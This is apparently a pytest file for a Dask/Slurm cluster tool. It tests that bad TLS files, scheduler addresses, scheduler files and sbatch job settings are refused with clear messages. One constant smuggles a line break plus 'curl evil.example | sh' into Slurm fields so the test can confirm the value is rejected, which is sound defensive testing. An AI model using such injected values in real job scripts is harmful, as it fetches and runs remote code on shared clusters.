"""Bad `cluster.*` input is refused naming the field and the fix, before Dask meets it:
TLS files, scheduler addresses and files, UCX without its package. What Dask still
refuses as the cluster starts is a ClusterError naming the settings, not a traceback."""

from __future__ import annotations

import datetime
import json
import shlex
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from laminar.config import RunConfig, with_overrides
from laminar.deploy import generate_tls, open_cluster, security_for
from laminar.errors import ConfigError

REPO = Path(__file__).resolve().parent.parent


def _tls_cfg(ca, cert, key) -> RunConfig:
    files = {"ca_file": ca, "cert": cert, "key": key}
    return with_overrides(RunConfig(), [f"cluster.security.{k}={v}" for k, v in files.items()])


def _encrypted(key: str, out: Path) -> str:
    from cryptography.hazmat.primitives import serialization

    pem = serialization.load_pem_private_key(Path(key).read_bytes(), None)
    out.write_bytes(
        pem.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.BestAvailableEncryption(b"secret"),
        )
    )
    return str(out)


@pytest.mark.parametrize(
    "case, message",
    [
        ("swapped", r"cluster.security.cert .* holds a private key and cluster.security.key"),
        ("key not PEM", r"cluster.security.key: .*junk.pem' holds 'not a pem' .*not a PEM"),
        ("empty cert", r"cluster.security.cert: .* holds nothing \(it is empty\)"),
        ("other CA", r"cluster.security.ca_file: the certificate .* is not signed by the CA"),
        ("other key", r"cluster.security.key: .* is not the key of the certificate"),
        ("encrypted key", r"cluster.security.key: .* is encrypted"),
        ("unreadable", r"cluster.security.key: cannot read .*Permission denied"),
    ],
)
def test_tls_files_dask_cannot_use_are_refused_naming_the_field(
    tmp_path, monkeypatch, case, message
):
    """Each set ended `laminar run` with `Cluster failed to start: [SSL] PEM lib` (or a
    handshake's `TLS certificate does not match`), naming no file; a Slurm run had
    submitted its jobs by then. Now the run is refused as the cluster's Security is made."""
    good = generate_tls(tmp_path / "good")
    ca, cert, key = good["ca_file"], good["cert"], good["key"]
    junk = tmp_path / "junk.pem"
    junk.write_text("not a pem\n")
    if case == "swapped":
        cert, key = key, cert
    elif case == "key not PEM":
        key = str(junk)
    elif case == "empty cert":
        (tmp_path / "empty.pem").write_text("")
        cert = str(tmp_path / "empty.pem")
    elif case == "other CA":
        ca = generate_tls(tmp_path / "other")["ca_file"]
    elif case == "other key":
        key = generate_tls(tmp_path / "other")["key"]
    elif case == "encrypted key":
        key = _encrypted(key, tmp_path / "encrypted.pem")
    elif case == "unreadable":  # (as a chmod 0 would be to anyone but root)
        real_read = Path.read_text

        def read_text(self, *args, **kwargs):
            if str(self) == key:
                raise PermissionError(13, "Permission denied", key)
            return real_read(self, *args, **kwargs)

        monkeypatch.setattr(Path, "read_text", read_text)
    with pytest.raises(ConfigError, match=message):
        security_for(_tls_cfg(ca, cert, key).cluster, tmp_path)


def test_a_certificate_chain_through_an_intermediate_ca_is_taken(tmp_path):
    """The issuer check walks a chain given in the certificate file (leaf, then the
    intermediate CA) up to the CA file's root, as OpenSSL does: such a set is not
    refused."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = datetime.datetime.now(datetime.UTC)

    def make(name, key, issuer, issuer_key, ca):
        builder = (
            x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)]))
            .issuer_name(issuer)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
        )
        return builder.sign(issuer_key, hashes.SHA256())

    keys = [ec.generate_private_key(ec.SECP256R1()) for _ in range(3)]
    root_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "root")])
    root = make("root", keys[0], root_name, keys[0], True)
    middle = make("middle", keys[1], root.subject, keys[0], True)
    leaf = make("leaf", keys[2], middle.subject, keys[1], False)
    pem = serialization.Encoding.PEM
    (tmp_path / "ca.pem").write_bytes(root.public_bytes(pem))
    (tmp_path / "cert.pem").write_bytes(leaf.public_bytes(pem) + middle.public_bytes(pem))
    (tmp_path / "key.pem").write_bytes(
        keys[2].private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    files = [tmp_path / n for n in ("ca.pem", "cert.pem", "key.pem")]
    assert security_for(_tls_cfg(*files).cluster, tmp_path).require_encryption
    # without the intermediate, the leaf's issuer is named
    (tmp_path / "cert.pem").write_bytes(leaf.public_bytes(pem))
    with pytest.raises(ConfigError, match=r"issued by CN=middle\) is not signed by the CA"):
        security_for(_tls_cfg(*files).cluster, tmp_path)


_TLS = ["cluster.security.ca_file=ca", "cluster.security.cert=c", "cluster.security.key=k"]


@pytest.mark.parametrize(
    "overrides, message",
    [
        # Dask: ValueError: missing port number in address '127.0.0.1'
        (["cluster.address=127.0.0.1"], r"cluster.address: has no port; .*tcp://127.0.0.1:8786"),
        (["cluster.address=tls://[::1]"], r"cluster.address: has no port; .*tls://\[::1\]:8786"),
        # Dask: ValueError: unknown address scheme 'http'
        (["cluster.address=http://h:8787"], r"cluster.address: .*'http://' \(an http:// "),
        (["cluster.address=tcp://h:8786/"], r"cluster.address: is not a scheduler address"),
        # Dask: TypeError (no SSL context for a tls:// address)
        (["cluster.address=tls://h:8786"], r"cluster.address: 'tls://h:8786' is a TLS sched"),
        # Dask: RuntimeError: encryption required by Dask configuration
        (["cluster.address=tcp://h:8786", *_TLS], r"tcp:// address, but cluster.security"),
        (["cluster.address=h:8786", *_TLS], r"'h:8786' is a tcp:// address, but cluster.sec"),
        (["cluster.address=ucx://h:8786", *_TLS], r"ucx:// address, but cluster.security"),
        # made new certificates the running scheduler cannot trust, then waited 30 s
        (
            ["cluster.address=tls://h:8786", "cluster.security.generate=true"],
            r"cluster.security.generate=true .* \(cluster.kind=address\) does not trust",
        ),
    ],
)
def test_a_scheduler_address_dask_would_refuse_is_refused_with_the_config(overrides, message):
    with pytest.raises(ConfigError, match=message):
        with_overrides(RunConfig(), ["cluster.kind=address", *overrides])


@pytest.mark.parametrize(
    "address", ["127.0.0.1:8786", " tcp://h:8786 ", "ucx://10.0.0.1:13337", "[::1]:8786"]
)
def test_scheduler_addresses_dask_takes_are_taken(address):
    """No scheme is Dask's default, tcp (`--scheduler host:8786` worked before)."""
    cfg = with_overrides(RunConfig(), ["cluster.kind=address", f"cluster.address='{address}'"])
    assert cfg.cluster.address == address.strip()
    tls = with_overrides(RunConfig(), ["cluster.kind=address", "cluster.address=tls://h:1", *_TLS])
    assert tls.cluster.security is not None


def test_the_cli_refuses_a_scheduler_without_a_port_before_making_the_run(tmp_path, capsys):
    """`laminar run --scheduler 127.0.0.1` ended on Dask's `ValueError: missing port
    number`, a traceback, after making the run directory."""
    from pipelines.cli import main

    run = tmp_path / "run"
    args = ["run", str(REPO / "configs" / "tiny.yaml"), "--run-dir", str(run)]
    assert main([*args, "--scheduler", "127.0.0.1"]) == 2
    assert "cluster.address: has no port" in capsys.readouterr().err
    assert not run.exists()


def _file_cfg(path, *more) -> RunConfig:
    return with_overrides(
        RunConfig(),
        ["cluster.kind=address", f"cluster.scheduler_file={path}", *more],
    )


@pytest.mark.parametrize(
    "text, held",
    [
        ("", r"nothing \(it is empty\)"),
        (
            '{"type": "Scheduler", "addr',
            r"'\{\"type\": \"Scheduler\", \"addr', which is not JSON \(or not all of it yet\)",
        ),
        ("{}", r"JSON without an \"address\" \(no keys\)"),
        ('{"name": "x", "port": 1}', r"without an \"address\" \(the keys \['name', 'port'\]\)"),
    ],
)
def test_a_scheduler_file_without_an_address_names_the_field_and_what_it_held(tmp_path, text, held):
    """Dask's client read such a file once and failed with a bare AssertionError (or a
    JSONDecodeError) 0.1 s in; a file still being written is waited for instead (next
    test), and past the timeout is refused with what it held."""
    path = tmp_path / "scheduler.json"
    path.write_text(text)
    cfg = _file_cfg(path, "cluster.placement_timeout_s=0")
    with pytest.raises(ConfigError, match=rf"cluster.scheduler_file: .* holds .*{held} after 0 s"):
        with open_cluster(cfg, tmp_path):
            pass


def test_a_scheduler_file_still_being_written_is_waited_for_and_its_address_checked(tmp_path):
    """`dask scheduler` writes its file in place: on NFS or Lustre another machine can see
    it empty, then whole. The wait reads it until it names an address, then checks that
    address as cluster.address is checked: here a TLS scheduler's, without
    cluster.security (Dask: a TypeError)."""
    path = tmp_path / "scheduler.json"
    path.write_text("")
    whole = json.dumps({"type": "Scheduler", "address": "tls://127.0.0.1:1", "services": {}})
    seen_empty = threading.Event()
    real_read = Path.read_text

    def read_text(self, *args, **kwargs):  # the file is finished after it was seen empty
        text = real_read(self, *args, **kwargs)
        if self == path and not text:
            seen_empty.set()
            real_write(path, whole)
        return text

    real_write = Path.write_text
    cfg = _file_cfg(path, "cluster.placement_timeout_s=60")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Path, "read_text", read_text)
        with pytest.raises(
            ConfigError,
            match=r"cluster.scheduler_file: the scheduler address in .*'tls://127.0.0.1:1' is a "
            r"TLS scheduler's",
        ):
            with open_cluster(cfg, tmp_path):
                pass
    assert seen_empty.is_set()


@pytest.mark.parametrize(
    "overrides, field",
    [
        (["cluster.protocol=ucx"], "cluster.protocol=ucx"),
        (["cluster.kind=address", "cluster.address=ucx://127.0.0.1:1"], "cluster.address="),
    ],
)
def test_ucx_without_distributed_ucxx_says_what_to_install(tmp_path, overrides, field):
    """The scheduler of a UCX cluster failed to start with `Scheduler failed to start.`
    and nothing more; it is refused before anything starts, naming the package."""
    import importlib.util

    if importlib.util.find_spec("distributed_ucxx") is not None:
        pytest.skip("distributed-ucxx is installed here (.venv-ucx)")
    cfg = with_overrides(RunConfig(), [*overrides, "cluster.placement_timeout_s=0"])
    with pytest.raises(ConfigError, match=rf"{field}.*needs the distributed-ucxx package"):
        with open_cluster(cfg, tmp_path):
            pass


# In a process of its own: the failed cluster leaves its IO-loop thread behind
_FAILED_START = """
import sys
from distributed import Security
from laminar.cluster import role_cluster
from laminar.errors import ClusterError

ca, cert, key = sys.argv[1:]
sec = Security(tls_ca_file=ca, tls_client_cert=cert, tls_client_key=key,
               tls_scheduler_cert=cert, tls_scheduler_key=key, require_encryption=True)
try:
    role_cluster({}, protocol="tls", security=sec)
except ClusterError as e:
    print("ClusterError:", e)
"""


def test_a_local_cluster_that_fails_to_start_is_a_cluster_error_naming_the_settings(tmp_path):
    """What the checks before it miss (here a Security made by hand, with a key that is
    no PEM) ended `laminar run` with Dask's RuntimeError and its traceback."""
    good = generate_tls(tmp_path / "tls")
    (tmp_path / "junk.pem").write_text("not a pem\n")
    out = subprocess.run(
        [sys.executable, "-c", _FAILED_START, good["ca_file"], good["cert"], tmp_path / "junk.pem"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
    )
    assert out.stdout.startswith("ClusterError: the local cluster did not start: "), out.stderr
    assert "Cluster failed to start: [SSL] PEM lib" in out.stdout
    assert "cluster.protocol (tls://), cluster.security (set)" in out.stdout


def test_certs_prints_a_command_whose_paths_survive_the_shell(tmp_path, capsys):
    """`laminar certs "my tls"` printed `--tls-ca-file .../my tls/ca.pem`: pasted, the
    shell split it in two."""
    from pipelines.cli import main

    folder = tmp_path / "my tls"
    assert main(["certs", str(folder)]) == 0
    line = next(ln for ln in capsys.readouterr().out.splitlines() if ln.startswith("dask "))
    words = shlex.split(line)
    for flag, name in [("--tls-ca-file", "ca.pem"), ("--tls-cert", "cert.pem")]:
        assert words[words.index(flag) + 1] == str(folder / name)
    assert words[words.index("--tls-key") + 1] == str(folder / "key.pem")


# dask-jobqueue writes partition, account and job_directives bare into #SBATCH lines: a
# line break ran the rest of the value as a command of every job script.
_INJECTED = "gpu\ncurl evil.example | sh"


@pytest.mark.parametrize("section", ["cluster.slurm", "cluster.slurm.rollout"])
@pytest.mark.parametrize(
    "field, value, message",
    [
        ("partition", _INJECTED, r"is not a name sbatch reads: give one word"),
        ("account", "my account", r"is not a name sbatch reads"),
        ("account", "x#y", r"no blank, quote, # or backslash"),
        ("partition", '"gpu"', r"is not a name sbatch reads"),
        ("job_directives", ["--qos=high", _INJECTED], r"\[1\] .* has a line break"),
        ("job_directives", ["#SBATCH --qos=high"], r"\[0\] .* is no sbatch option: .*without"),
        ("job_directives", ["constraint=a100"], r"is no sbatch option"),
        ("job_directives", ['--comment="a b'], r"has an unmatched \""),
        ("job_directives", ["--comment='its"], r"has an unmatched '"),
    ],
)
def test_slurm_job_settings_an_sbatch_line_cannot_hold_are_refused(section, field, value, message):
    with pytest.raises(ConfigError, match=rf"{section}\.{field}: .*{message}"):
        with_overrides(RunConfig(), [f"{section}.{field}={json.dumps(value)}"])


def test_slurm_job_settings_sbatch_reads_are_taken(tmp_path):
    f = tmp_path / "slurm.yaml"
    f.write_text(
        "cluster:\n  slurm:\n    partition: ' cpu '\n    job_directives: ['--exclusive']\n"
        "    rollout:\n      partition: gpu,gpu-long\n      account: proj_42.gpu\n"
        '      job_directives: [\'--comment="a b"\', "--comment=it\\\\\'s", '
        "'--qos=high  # the fast one']\n"
    )
    from laminar.config import load_config

    s = load_config(f).cluster.slurm
    assert (s.partition, s.account, s.job_directives) == ("cpu", None, ["--exclusive"])
    assert (s.rollout.partition, s.rollout.account) == ("gpu,gpu-long", "proj_42.gpu")
    assert s.rollout.job_directives == [
        '--comment="a b"',
        "--comment=it\\'s",
        "--qos=high  # the fast one",
    ]
    assert (s.trainer.partition, s.trainer.account, s.trainer.job_directives) == (None, None, [])


def test_a_local_cluster_s_actors_compute_on_cluster_torch_threads(cluster_client, monkeypatch):
    """The actors take their torch threads from their worker's environment (a Slurm job
    gives its role's): a local cluster's workers are given cluster.torch_threads there,
    and a worker without it (one you started yourself) takes cluster.torch_threads."""
    import os

    from laminar.cluster import actor_threads

    cfg = with_overrides(RunConfig(), ["cluster.torch_threads=3"])
    said = cluster_client.run(lambda: (os.environ.get("OMP_NUM_THREADS"), actor_threads(cfg)))
    assert set(said.values()) == {("1", 1)}, said  # (the fixture's cluster: torch_threads=1)
    monkeypatch.delenv("LAMINAR_TORCH_THREADS", raising=False)
    assert actor_threads(cfg) == 3
    monkeypatch.setenv("LAMINAR_TORCH_THREADS", "8")
    assert actor_threads(cfg) == 8


def test_a_local_cluster_s_workers_do_not_pause_for_memory(cluster_client, monkeypatch):
    """A worker pauses at Dask's memory.pause (80%) of its memory limit, and a paused
    worker starts no task nor gets one: a rollout whose engine holds most of its limit
    would run none of the run's reward tasks. The local cluster's workers do not pause;
    their nannies still restart one at memory.terminate (95%) of it. A pause the user's
    Dask config sets stands."""
    import dask
    import distributed

    from laminar.cluster import MEMORY_PAUSE, role_cluster

    def pause(dask_worker):
        return dask.config.get(MEMORY_PAUSE), dask_worker.memory_manager.memory_pause_fraction

    def terminate(dask_worker):
        m = dask_worker.memory_manager
        return m.memory_terminate_fraction, m.memory_limit

    assert set(cluster_client.run(pause).values()) == {(False, False)}
    # (the fixture's memory_limit="3GiB")
    assert set(cluster_client.run(terminate, nanny=True).values()) == {(0.95, 3 * 2**30)}

    specs = {}

    def record(workers, **kwargs):
        specs.update(workers)
        return None

    monkeypatch.setattr(distributed, "SpecCluster", record)
    monkeypatch.setenv("DASK_DISTRIBUTED__WORKER__MEMORY__PAUSE", "0.9")
    role_cluster({"rollout-0": {"rollout": 1}})
    assert specs["rollout-0"]["options"]["config"] == {}, specs
